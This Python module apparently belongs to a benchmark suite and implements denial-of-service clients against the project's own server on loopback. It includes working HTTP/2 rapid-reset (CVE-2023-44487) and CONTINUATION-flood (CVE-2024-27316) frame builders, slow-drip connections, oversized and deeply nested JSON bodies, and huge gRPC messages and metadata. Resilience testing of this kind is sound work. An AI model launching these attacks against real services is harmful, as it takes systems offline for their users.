"""Malicious clients for `benchmarks.attacks`: each attacks a server on this machine until a given time.

The HTTP/2 frames are built by hand, because no client library sends invalid ones.
"""

from __future__ import annotations

import asyncio
import contextlib
import json
import os
import struct
import time
from dataclasses import dataclass, replace
from typing import TYPE_CHECKING, Any, Final

import grpc

if TYPE_CHECKING:
    from collections.abc import AsyncIterator, Awaitable, Callable, Coroutine, Mapping

    Attack = Callable[["Target"], Coroutine[Any, Any, int]]

MEBI: Final = 1024 * 1024
CONNECTIONS: Final = 8
IDLE_CONNECTIONS: Final = 400
STREAMS: Final = 1000
PIECE: Final = 16_384
SEVEN_BITS: Final = 0x7F
PREFACE: Final = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, CONTINUATION = 0, 1, 3, 4, 6, 9
END_STREAM, ACK, END_HEADERS = 1, 1, 4
REASON: Final = "/reasond.v1.ReasoningService/Reason"


@dataclass(frozen=True, slots=True, kw_only=True)
class Target:
    """Where the server listens on loopback, a token for it, and when to stop (`time.monotonic`)."""

    grpc: str
    http: str
    token: str
    until: float = 0.0

    @property
    def is_on(self) -> bool:
        """Whether the attack continues."""
        return time.monotonic() < self.until

    @property
    def left_s(self) -> float:
        """The seconds that are left."""
        return max(0.0, self.until - time.monotonic())


@contextlib.asynccontextmanager
async def connect(address: str) -> AsyncIterator[tuple[asyncio.StreamReader, asyncio.StreamWriter]]:
    """Connect to host:port; any connection error ends the block without an exception."""
    host, _, port = address.rpartition(":")
    with contextlib.suppress(OSError, asyncio.IncompleteReadError):
        reader, writer = await asyncio.open_connection(host, int(port))
        try:
            yield reader, writer
        finally:
            writer.transport.abort()


async def many(number: int, run: Callable[[], Awaitable[int]]) -> int:
    """Run `run` several times concurrently; return the sum of the results."""
    return sum(await asyncio.gather(*(run() for _ in range(number))))


def posting(body: bytes, *, connections: int = CONNECTIONS, token: bool = False) -> Attack:
    """Post a body again and again."""

    async def attack(target: Target) -> int:
        authorization = f"authorization: Bearer {target.token}\r\n" if token else ""
        head = f"POST /api/v1/jsonrpc HTTP/1.1\r\nhost: a\r\ncontent-type: application/json\r\n{authorization}"
        whole = f"{head}content-length: {len(body)}\r\nconnection: close\r\n\r\n".encode() + body

        async def one() -> int:
            sent = 0
            while target.is_on:
                async with connect(target.http) as (reader, writer), asyncio.timeout(target.left_s + 5):
                    writer.write(whole)
                    await writer.drain()
                    await reader.read()
                sent += 1
            return sent

        return await many(connections, one)

    return attack


def dripping(start: bytes, *, drip: bytes = b"", port: str = "http") -> Attack:
    """Open many connections that send `start`, and then one byte at a time or nothing."""

    async def attack(target: Target) -> int:
        async def one() -> int:
            opened = 0
            while target.is_on:
                async with connect(getattr(target, port)) as (reader, writer):
                    opened += 1
                    writer.write(start)
                    while not reader.at_eof():
                        if not target.is_on:
                            break
                        with contextlib.suppress(TimeoutError):
                            async with asyncio.timeout(min(1.0, target.left_s)):
                                await reader.read(1024)
                        writer.write(drip)
                await asyncio.sleep(0.05)
            return opened

        return await many(IDLE_CONNECTIONS, one)

    return attack


async def garbage(target: Target) -> int:
    """Send random bytes to both ports."""

    async def one() -> int:
        sent = 0
        while target.is_on:
            for address in (target.grpc, target.http):
                async with connect(address) as (reader, writer), asyncio.timeout(2):
                    writer.write(PREFACE * (sent % 2) + os.urandom(PIECE))
                    await reader.read(1)
                sent += 1
        return sent

    return await many(CONNECTIONS, _without_time_limit(one))


def _without_time_limit(run: Callable[[], Awaitable[int]]) -> Callable[[], Awaitable[int]]:
    async def quiet() -> int:
        try:
            return await run()
        except TimeoutError:
            return 0

    return quiet


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    """Return one frame of HTTP/2."""
    return struct.pack(">I", len(payload))[1:] + bytes((kind, flags)) + struct.pack(">I", stream) + payload


def literal(name: str, value: str) -> bytes:
    """Return one header as a literal without an index (RFC 7541, 6.2.2)."""
    parts = [part.encode() for part in (name, value)]
    return b"\0" + b"".join(_hpack_length(len(part)) + part for part in parts)


def _hpack_length(length: int) -> bytes:
    """Return a length as an integer with a prefix of seven bits (RFC 7541, 5.1)."""
    if length < SEVEN_BITS:
        return bytes((length,))
    written, length = bytearray((SEVEN_BITS,)), length - SEVEN_BITS
    while length > SEVEN_BITS:
        written.append(length & SEVEN_BITS | 0x80)
        length >>= 7
    return bytes((*written, length))


def call_headers() -> bytes:
    """Return the headers of a call of Reason, without a token."""
    fields: Mapping[str, str] = {
        ":method": "POST",
        ":scheme": "http",
        ":path": REASON,
        ":authority": "a",
        "te": "trailers",
        "content-type": "application/grpc",
    }
    return b"".join(literal(*field) for field in fields.items())


def framing(
    make: Callable[[int], bytes], *, connections: int = CONNECTIONS, most: int = 1 << 30, acknowledges: bool = True
) -> Attack:
    """Write the frames of `make` for stream after stream, as fast as the server reads them, and discard the answers.

    A peer that does not acknowledge the server's SETTINGS is not bound by them.
    """

    async def attack(target: Target) -> int:
        async def one() -> int:
            sent = 0
            while target.is_on:
                async with connect(target.grpc) as (reader, writer):
                    # The largest window, so that flow control does not stop the server's answers.
                    writer.write(PREFACE + frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 2**31 - 1)))
                    if acknowledges:
                        writer.write(frame(SETTINGS, ACK, 0))
                    await _flood(target, reader, writer, make, most)
                    sent += 1
                await asyncio.sleep(0.01)
            return sent

        return await many(connections, one)

    return attack


async def _flood(
    target: Target,
    reader: asyncio.StreamReader,
    writer: asyncio.StreamWriter,
    make: Callable[[int], bytes],
    most: int,
) -> None:
    drain = asyncio.create_task(_read_all(reader))
    try:
        for number in range(most):
            if not target.is_on or drain.done() or writer.is_closing():
                break
            writer.write(make(2 * number + 1))
            if number % 50 == 0:
                async with asyncio.timeout(target.left_s):
                    await writer.drain()
                await asyncio.sleep(0)
        await asyncio.wait({drain}, timeout=target.left_s)
    except TimeoutError:
        pass
    finally:
        drain.cancel()
        await asyncio.gather(drain, return_exceptions=True)


async def _read_all(reader: asyncio.StreamReader) -> None:
    while await reader.read(MEBI):
        pass


def rapid_reset(stream: int) -> bytes:
    """Open a call and reset it at once (CVE-2023-44487)."""
    cancel = frame(RST_STREAM, 0, stream, struct.pack(">I", 8))
    return frame(HEADERS, END_HEADERS, stream, call_headers()) + cancel


def half_open(stream: int) -> bytes:
    """Open a call and never continue it."""
    return frame(HEADERS, END_HEADERS, stream, call_headers())


def large_metadata(stream: int, size: int = 1_000_000) -> bytes:
    """Open a call with so many bytes of metadata and never continue it."""
    block = call_headers() + literal("x", "y" * size)
    pieces = [block[start : start + PIECE] for start in range(0, len(block), PIECE)]
    kinds = [HEADERS, *[CONTINUATION] * (len(pieces) - 1)]
    flags = [*[0] * (len(pieces) - 1), END_HEADERS]
    return b"".join(frame(kind, flag, stream, piece) for kind, flag, piece in zip(kinds, flags, pieces, strict=True))


def pinging(_stream: int) -> bytes:
    """Send a PING."""
    return frame(PING, 0, 0, bytes(8))


def continuing(stream: int) -> bytes:
    """Begin headers and never end them (CVE-2024-27316)."""
    if stream == 1:
        return frame(HEADERS, 0, 1, call_headers())
    return frame(CONTINUATION, 0, 1, literal("x" * 100, "y" * 100) * 60)


def calling(
    message: bytes, *, metadata: Mapping[str, str] | None = None, token: bool = True, at_once: int = CONNECTIONS
) -> Attack:
    """Call Reason with arbitrary bytes."""

    async def attack(target: Target) -> int:
        sent = [(name, value) for name, value in (metadata or {}).items()]
        if token:
            sent.append(("authorization", f"Bearer {target.token}"))
        options = [("grpc.max_send_message_length", -1), ("grpc.max_metadata_size", 16 * MEBI)]
        async with grpc.aio.insecure_channel(target.grpc, options=options) as channel:
            call: Any = channel.unary_unary(REASON)

            async def one() -> int:
                calls = 0
                while target.is_on:
                    with contextlib.suppress(grpc.aio.AioRpcError):
                        await call(message, metadata=sent, timeout=target.left_s + 5)
                    calls += 1
                return calls

            return await many(at_once, one)

    return attack


def execute(**params: Any) -> bytes:  # noqa: ANN401 - any JSON
    """Return the body of a call of `reasoning.execute`."""
    return json.dumps({"jsonrpc": "2.0", "id": 1, "method": "reasoning.execute", "params": params}).encode()


def field(number: int, content: bytes) -> bytes:
    """Return a protobuf field of bytes, text or a message."""
    size, length = len(content), bytearray()
    while size > SEVEN_BITS:
        length.append(size & SEVEN_BITS | 0x80)
        size >>= 7
    return bytes((number << 3 | 2,)) + bytes((*length, size)) + content


def fill_array(unit: bytes, size: int = 8 * MEBI - 2) -> bytes:
    """Return an array of as many `unit` as fit into `size` bytes."""
    return b"[" + b",".join([unit] * (size // (len(unit) + 1))) + b"]"


def many_values(count: int) -> bytes:
    """Return a request whose custom config is a list of `count` empty lists."""
    values = field(1, field(6, b"")) * count
    entry = field(1, b"x") + field(2, field(6, values))
    return field(1, field(1, b"q") + field(3, b"mine") + field(9, field(1, entry)))


def attacks() -> dict[str, Attack]:
    """Return every attack by its name."""
    near_cap = 4 * MEBI - 1000
    slow_body = (
        b"POST /api/v1/jsonrpc HTTP/1.1\r\nhost: a\r\ncontent-type: application/json\r\ncontent-length: 9000\r\n\r\n"
    )
    partial = field(1, b"")[:1] + b"x" * (PIECE - 6)
    unfinished = struct.pack(">BI", 0, near_cap) + partial
    batch = b"[" + b",".join([execute(query="x" * 90_000)] * 20) + b"]"
    return {
        "JSON: 8 MiB of empty arrays": posting(fill_array(b"[]")),
        "JSON: 8 MiB of nested arrays": posting(fill_array(b"[[[[[[0]]]]]]")),
        "JSON: 8 MiB of integers of 4,300 digits": posting(fill_array(b"9" * 4300)),
        "JSON: 8 MiB of one name, again and again": posting(b"{" + b",".join([b'"a":0'] * (8 * MEBI // 6 - 1)) + b"}"),
        "JSON: nested 8 Mi deep": posting(b"[" * (8 * MEBI)),
        "JSON: 9 MiB": posting(b'"' + b"a" * (9 * MEBI) + b'"'),
        "JSON: batches of 100,000": posting(fill_array(b"1", 200_000)),
        "JSON: batches of 20 large calls": posting(batch, token=True),
        "JSON: queries of 100,001 characters": posting(execute(query="\U0001f600" * 100_001), token=True),
        "HTTP: headers without end": dripping(b"GET / HTTP/1.1\r\n", drip=b"x: y\r\n"),
        "HTTP: 100 KB of headers": dripping(b"GET / HTTP/1.1\r\nx: " + b"y" * 100_000),
        "HTTP: slow bodies": dripping(slow_body, drip=b"x"),
        "HTTP: silent connections": dripping(b""),
        "gRPC: silent connections": dripping(b"", port="grpc"),
        "gRPC: nothing after the preface": dripping(PREFACE, port="grpc"),
        "noise on both ports": garbage,
        "HTTP/2: rapid reset": framing(rapid_reset),
        "HTTP/2: half-open calls": framing(half_open, most=STREAMS),
        "HTTP/2: half-sent messages": framing(
            lambda stream: half_open(stream) + frame(DATA, 0, stream, unfinished), most=STREAMS
        ),
        "HTTP/2: 1 MB of metadata, SETTINGS not acknowledged": framing(
            large_metadata, connections=4, most=STREAMS, acknowledges=False
        ),
        "HTTP/2: pings": framing(pinging),
        "HTTP/2: headers that go on": framing(continuing),
        "gRPC: 64 KiB of metadata": calling(b"", metadata={"x": "y" * 65_536}),
        "gRPC: messages of 5 MiB": calling(bytes(5 * MEBI)),
        "gRPC: noise for messages": calling(os.urandom(1000)),
        "gRPC: 4 MiB without a token, 100 at once": calling(bytes(near_cap), token=False, at_once=100),
        "gRPC: a config of 1,000,000 values": calling(many_values(1_000_000)),
        "gRPC: 2,000,000 capabilities": calling(field(1, field(1, b"q") + field(11, b"") * (near_cap // 2))),
        "gRPC: queries of 100,001 characters": calling(field(1, field(1, ("\U0001f600" * 100_001).encode()))),
    }


def run(name: str, target: Target, seconds: float) -> int:
    """Attack for so many seconds; return the number of attempts."""
    return asyncio.run(attacks()[name](replace(target, until=time.monotonic() + seconds)))
